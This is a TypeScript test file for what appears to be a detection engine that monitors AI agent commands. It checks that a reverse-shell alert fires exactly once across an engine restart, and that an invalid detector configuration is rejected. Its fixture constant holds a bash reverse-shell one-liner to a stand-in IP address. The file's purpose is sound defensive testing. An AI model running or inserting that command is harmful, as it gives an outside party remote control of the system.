import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Worker } from 'node:worker_threads';
import type { AgentEvent } from '../contracts/event';
import type { Finding } from '../contracts/finding';
import type { OutgoingMessage } from '../contracts/stream';
import { loadConfig } from '../platform/config';
import { createLogger } from '../platform/log';
import { createMetrics } from '../platform/metrics';
import { caller, startThread } from '../platform/thread';
import { openSqliteStore } from '../store/sqlite/sqlite-store';
import { openEmbeddedStream } from '../stream/embedded/open-embedded';
import { encodeEnvelope } from '../stream/envelope';
import { exec } from '../test/support/agent-events';
import { alertsOf } from '../test/support/engine';
import { eventually } from '../test/support/eventually';
import { startEngineThread } from './start-thread';

const log = createLogger({ level: 'error', format: 'text', write: () => undefined });
const folder = mkdtempSync(join(tmpdir(), 'gander-engine-thread-'));
const base = loadConfig({ env: {}, overrides: { data: folder } });
const config = { ...base, engine: { ...base.engine, snapshotSeconds: 1, tickSeconds: 1 } };

let stream: Awaited<ReturnType<typeof openEmbeddedStream>>;
let store: Awaited<ReturnType<typeof openSqliteStore>>;

beforeAll(async () => {
  const size = { partitions: 2, retentionHours: 24, retentionBytes: 1e9 };
  stream = await openEmbeddedStream({ folder: join(folder, 'stream'), ...size, log, metrics: createMetrics() });
  store = await openSqliteStore({ file: join(folder, 'store.db'), log });
});

afterAll(async () => {
  await stream.close();
  await store.close();
  rmSync(folder, { recursive: true });
});

const data = () => ({ config, instanceId: 'test', stream: stream.handle(), store: store.handle() });

const envelope = (event: AgentEvent): OutgoingMessage => {
  const { value, encoding } = encodeEnvelope([event]);
  return { topic: 'gander.events.v1', key: `default/${event.scope}`, value, headers: { encoding, tenant: 'default' } };
};

async function findings(): Promise<Finding[]> {
  const found: Finding[] = [];
  for (const partition of [0, 1]) {
    for await (const { value } of stream.read('gander.findings.v1', partition, 0)) {
      found.push(JSON.parse(Buffer.from(value).toString()) as Finding);
    }
  }
  return found;
}

/** A thread that is not asked to stop: what `kill -9` leaves of it. */
async function doomed(): Promise<Worker> {
  const worker = startThread('engine/engine-thread', { workerData: data() });
  worker.on('error', () => undefined);
  await caller(worker).call('start');
  return worker;
}

const SHELL = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';

test('an engine that is killed and started again alerts once, with what the one before knew', async () => {
  const now = { receivedAt: Date.now(), callId: 'c1' };
  const first = await doomed();
  await stream.publish([envelope(exec(SHELL, { ...now, phase: 'proposed' }))]);
  await eventually('a finding', async () => (await findings()).length > 0);
  await eventually('a snapshot', async () => {
    const snapshots = await Promise.all([0, 1].map((partition) => store.snapshot('gander-engine', partition)));
    return snapshots.some((snapshot) => snapshot?.offsets['gander.events.v1'] === 1);
  });
  await first.terminate();
  const second = await startEngineThread(data(), log);
  await stream.publish([envelope(exec(undefined, { ...now, at: 500, outcome: { status: 'ok', exitCode: 0 } }))]);
  await eventually('the outcome', async () => (await findings()).some(({ facts }) => facts.includes('succeeded')));
  const alerts = Object.keys(alertsOf(await findings())).filter((name) => name.startsWith('reverse-shell '));
  expect(alerts).toHaveLength(1);
  expect((await second.collect()).some(({ name }) => name === 'gander_detector_steps_total')).toBe(true);
  await second.stop();
});

test('a configuration that names no detector is refused at the start', async () => {
  const detectors = { 'revers-shell': { enabled: true, settings: {} } };
  const wrong = { ...config, engine: { ...config.engine, detectors } };
  await expect(startEngineThread({ ...data(), config: wrong }, log)).rejects.toMatchObject({ code: 'config_invalid' });
});
